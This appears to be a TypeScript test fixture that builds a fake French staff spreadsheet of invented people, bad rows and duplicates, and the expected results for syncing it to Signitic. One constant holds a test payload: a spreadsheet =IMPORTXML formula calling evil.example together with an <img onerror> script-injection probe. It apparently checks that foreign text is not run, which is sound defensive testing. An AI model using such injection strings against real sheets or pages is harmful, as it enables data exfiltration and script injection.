// A staff list whose right answers are known: who stands in it, and what Signitic must hold of each person.
import type { Book, Tab } from '../../playground/emulator/spreadsheet-store';
import type { SigniticUser } from '../../playground/signitic/server';

export const SHEET = 'Équipe';
/** Header of each mapped column, and what it is mapped to. */
export const COLUMNS = {
  email: 'E-mail',
  firstname: 'Prénom',
  lastname: 'Nom',
  enabled: 'Actif',
  phone: 'Tél',
  jobtitle: 'Poste',
  address: 'Adresse',
  'path.group': 'Groupe',
} as const;
export type MappedField = keyof typeof COLUMNS;
export const FIELDS = Object.keys(COLUMNS) as MappedField[];
/** A text without places, the same for everybody. */
export const COMPANY = 'Acme SAS';
const HEADERS = ['Id', ...Object.values(COLUMNS), 'Note'];

/** What the fake server says of a person whom it refuses: foreign text that would do harm as a formula or as markup. */
export const REFUSAL = '=IMPORTXML("https://evil.example/?q","//a")<img src=x onerror=alert(1)>';
export const isRefused = (email: string): boolean => /^refused/i.test(email);

/** The mapping as the sidebar stores it. */
export function mappingOf(): object {
  const sources: Record<string, object> = { 'path.parent_entity': { text: COMPANY } };
  for (const field of FIELDS) sources[field] = { column: COLUMNS[field], occurrence: 1, of: 1 };
  return { version: 1, headerRow: 1, sources, filter: null };
}

export interface ListOptions {
  /** Rows with something wrong in them, one kind after the other, from the third row on. */
  wrong?: boolean;
  /** How many people the server will refuse. */
  refused?: number;
  /** How many rows there are from one person to the next; the others are blank. */
  every?: number;
}

/** What is wrong with some rows. `#N/A` is written as a formula that shows it. */
const WRONG: readonly Partial<Record<MappedField, string>>[] = [
  { email: 'no address' },
  { enabled: '#N/A' },
  { 'path.group': '#N/A' },
  { email: '' },
];

/** Fills a new tab with `count` rows of people and with things of the user's own around them. */
export function fillList(book: Book, count: number, options: ListOptions = {}): Tab {
  const rowOf = (i: number) => 2 + i * (options.every ?? 1);
  const tab = book.addTab(SHEET, { rows: rowOf(count) + 10, columns: HEADERS.length + 1 });
  HEADERS.forEach((header, i) => {
    tab.put(1, i + 1, header);
  });
  tab.freeze(1);
  const columns = columnsOf(tab);
  for (let i = 0; i < count; i++) {
    const wrong = options.wrong && i >= 3 && i % 7 === 3 ? WRONG[Math.floor(i / 7) % WRONG.length] : undefined;
    const refused = i >= count - (options.refused ?? 0);
    const person = personOf(i, refused ? `refused${i}@example.com` : undefined);
    addPerson(tab, rowOf(i), { ...person, ...wrong }, columns);
  }
  // The same person twice, in another case: neither row may go.
  if (options.wrong && count > 6) tab.put(rowOf(count - 1 - (options.refused ?? 0)), 2, 'P5@Example.com');
  ownThings(
    book,
    tab,
    Array.from({ length: count }, (_, i) => rowOf(i)),
  );
  return tab;
}

export type Person = Record<MappedField, string>;

/** The `i`-th invented person. */
export function personOf(i: number, email = `p${i}@example.com`): Person {
  return {
    email,
    firstname: `Ana${i}`,
    lastname: i % 5 === 2 ? `Roy ${i} ` : `Roy${i}`,
    enabled: i % 4 === 3 ? 'non' : 'TRUE',
    phone: i % 6 === 4 ? '' : `+33 1 99 00 ${String(i % 90).padStart(2, '0')} 11`,
    jobtitle: i % 8 === 1 ? '=1+1' : `Poste ${i % 3}`,
    address: `${i} rue de l’Essai\n7500${i % 10} Paris`,
    'path.group': ['Ventes', 'Achats', 'Support'][i % 3] as string,
  };
}

/** Writes a person into a row as it would stand there: a checkbox, phones and odd texts as plain text. */
export function addPerson(tab: Tab, row: number, person: Person, columns = columnsOf(tab)): void {
  for (const { field, column } of columns) writeCell(tab, row, column, field, person[field]);
}

type Columns = { field: MappedField; column: number }[];

function columnsOf(tab: Tab): Columns {
  return FIELDS.map((field) => ({ field, column: columnOf(tab, COLUMNS[field]) }));
}

export function writeCell(tab: Tab, row: number, column: number, field: MappedField, text: string): void {
  if (field === 'enabled' && (text === 'TRUE' || text === 'FALSE')) tab.checkbox(row, column, text === 'TRUE');
  else if (text === '#N/A') tab.putFormula(row, column, '=VLOOKUP(1;A:B;2;FALSE)', '#N/A');
  else if (field === 'phone' || text.startsWith('=')) tab.putText(row, column, text);
  else tab.put(row, column, text);
}

function ownThings(book: Book, tab: Tab, rows: readonly number[]): void {
  const note = columnOf(tab, 'Note');
  for (const row of rows) {
    tab.put(row, 1, row * 10, `${row * 10},00 €`);
    if (row % 3 === 0) tab.putFormula(row, note, `=A${row}*2`, row * 20);
    else tab.put(row, note, `12e${row}`);
    if (row % 4 === 0) tab.colourCells(row, 1, 1, note, '#1155cc');
  }
  tab.putNote(2, 2, 'the first one');
  tab.formatCells(2, note, rows.length, 1, '0.00');
  const other = book.addTab('Budget', { rows: 5, columns: 3 });
  other.typeTable(1, 1, [
    ['E-mail', 'Total'],
    ['p1@example.com', '=SUM(A1:A2)'],
  ]);
}

/** 1-based column of a header; 0 when it is gone. */
export function columnOf(tab: Tab, header: string): number {
  for (let column = 1; column <= tab.maxColumns; column++) if (tab.shown(1, column) === header) return column;
  return 0;
}

/** What a row is: nobody, somebody who must not be sent, or a person as Signitic must hold them. */
export type Expected = { kind: 'nobody' } | { kind: 'wrong'; email: string } | { kind: 'person'; user: SentUser };
export type SentUser = Partial<Record<MappedField | 'path.parent_entity', string | boolean>> & { email: string };

/** Reads the tab as it stands, by rules of its own: what each row from the second on must come to. */
export function expectedRows(tab: Tab): Map<number, Expected> {
  const columns = columnsOf(tab);
  const last = tab.lastRow();
  const rows = new Map<number, Expected>();
  const owners = new Map<string, number[]>();
  for (let row = 2; row <= last; row++) {
    const found = readRow(tab, row, columns);
    rows.set(row, found);
    if (found.kind === 'nobody') continue;
    const email = (found.kind === 'person' ? found.user.email : found.email).toLowerCase();
    if (isAddress(email)) owners.set(email, [...(owners.get(email) ?? []), row]);
  }
  for (const [email, twice] of owners) {
    if (twice.length > 1) for (const row of twice) rows.set(row, { kind: 'wrong', email });
  }
  return rows;
}

const isAddress = (text: string): boolean => /^[\w.]+@[\w.]+\.[a-z]{2,}$/i.test(text);

function readRow(tab: Tab, row: number, columns: Columns): Expected {
  const user: SentUser = { email: '', 'path.parent_entity': COMPANY };
  let anything = false;
  let wrong = false;
  for (const { field, column } of columns) {
    const shown = tab.shown(row, column).trim();
    if (field !== 'enabled' && shown !== '') anything = true;
    if (shown.startsWith('#N/A')) wrong = true;
    else if (field === 'enabled') {
      const said = ({ true: true, vrai: true, oui: true, false: false, faux: false, non: false } as const)[
        shown.toLowerCase() as 'oui'
      ] as boolean | undefined;
      if (shown !== '' && said === undefined) wrong = true;
      else if (said !== undefined) user.enabled = said;
    } else if (shown !== '') user[field] = field === 'address' ? shown.split('\n').join('<br/>') : shown;
  }
  if (!anything) return { kind: 'nobody' };
  if (wrong || !isAddress(user.email)) return { kind: 'wrong', email: user.email };
  return { kind: 'person', user };
}

/** The first field that Signitic holds otherwise than the row says, or null when it holds all of them. */
export function difference(user: SentUser, held: SigniticUser | undefined): string | null {
  if (!held) return 'email';
  for (const [field, value] of Object.entries(user)) {
    const [outer = '', inner] = field.split('.');
    const has = inner === undefined ? held[outer] : (held.path as Record<string, unknown> | undefined)?.[inner];
    const same = field === 'email' ? String(has).toLowerCase() === String(value).toLowerCase() : has === value;
    if (!same) return field;
  }
  return null;
}
